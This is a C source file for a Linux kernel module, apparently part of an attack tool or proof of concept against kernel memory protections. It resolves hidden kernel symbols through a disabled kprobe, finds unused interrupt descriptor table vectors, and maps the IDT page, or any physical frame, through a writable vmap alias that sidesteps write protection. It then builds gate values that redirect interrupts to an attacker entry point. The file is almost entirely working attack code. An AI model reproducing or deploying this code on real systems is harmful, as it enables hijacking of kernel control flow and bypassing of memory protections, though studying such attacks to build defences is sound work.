// SPDX-License-Identifier: MIT
// Gates of the interrupt descriptor table: which are unused, and a writable mapping of their page, or of any other.

#include <linux/io.h>
#include <linux/kprobes.h>
#include <linux/mm.h>
#include <linux/vmalloc.h>
#include <asm/desc.h>
#include <asm/hw_irq.h>
#include "attack.h"

/* A probe that is registered disarmed looks a name up and writes to no text. */
static unsigned long symbol(const char *name)
{
	static unsigned long (*lookup)(const char *name);

	if (!lookup) {
		struct kprobe probe = { .symbol_name = "kallsyms_lookup_name", .flags = KPROBE_FLAG_DISABLED };

		if (register_kprobe(&probe))
			return 0;
		lookup = (void *)probe.addr;
		unregister_kprobe(&probe);
	}
	return lookup(name);
}

/* No interrupt of any CPU and no use by the kernel itself. */
static bool is_unused(unsigned int number)
{
	vector_irq_t __percpu *irqs = (vector_irq_t __percpu *)symbol("vector_irq");
	unsigned long *kernel_owned = (unsigned long *)symbol("system_vectors");
	int cpu;

	if (!irqs || !kernel_owned) {
		pr_err("attack: cannot see which vectors are in use\n");
		return false;
	}
	if (number < FIRST_EXTERNAL_VECTOR || number >= NR_VECTORS || test_bit(number, kernel_owned))
		return false;
	for_each_online_cpu(cpu)
		if ((*per_cpu_ptr(irqs, cpu))[number] != VECTOR_UNUSED)
			return false;
	return true;
}

/* CR0.WP is left alone: a mapping of one's own stays clear of the checks on it. */
static int map_alias(struct target *target, phys_addr_t gpa)
{
	struct page *page = pfn_to_page(gpa >> PAGE_SHIFT);
	void *map = vmap(&page, 1, VM_MAP, PAGE_KERNEL);

	if (!map) {
		pr_err("attack: cannot map the page\n");
		return -ENOMEM;
	}
	target->gpa = gpa;
	target->alias = map + offset_in_page(gpa);
	return 0;
}

int target_map(struct target *target, unsigned int number, unsigned int gates, unsigned int offset)
{
	struct desc_ptr idtr;
	unsigned int i;

	store_idt(&idtr);
	for (i = number; i < number + gates; i++) {
		if ((i + 1) * GATE_SIZE > idtr.size + 1u || !is_unused(i)) {
			pr_err("attack: vector 0x%x is in use or outside of the IDT\n", i);
			return -EBUSY;
		}
	}
	target->idt = (void *)idtr.address + number * GATE_SIZE + offset;
	if (offset_in_page(target->idt) + STORE_SIZE > PAGE_SIZE) {
		pr_err("attack: the store would leave the page\n");
		return -EINVAL;
	}
	return map_alias(target, slow_virt_to_phys(target->idt));
}

int target_map_frame(struct target *target, phys_addr_t gpa)
{
	int error = gpa ? map_alias(target, gpa) : -EINVAL;

	if (!error)
		target->idt = target->alias;
	return error;
}

void target_unmap(struct target *target)
{
	vunmap(target->alias - offset_in_page(target->alias));
}

/* Module and kernel text share the upper half of their addresses. */
u64 redirected(u64 old)
{
	u64 entry = (unsigned long)attacker_entry;

	return (old & 0x0000ffffffff0000ull) | (entry & 0xffff) | (entry & 0xffff0000ull) << 32;
}

u64 read_bytes(const void *from)
{
	u64 value;

	memcpy(&value, from, sizeof(value));
	barrier();
	return value;
}

noinline __noclone void store_mov(void *target, u64 value)
{
	asm volatile(".globl attack_mov_rip\n\tattack_mov_rip: movq %1, (%0)" :: "r"(target), "r"(value) : "memory");
}
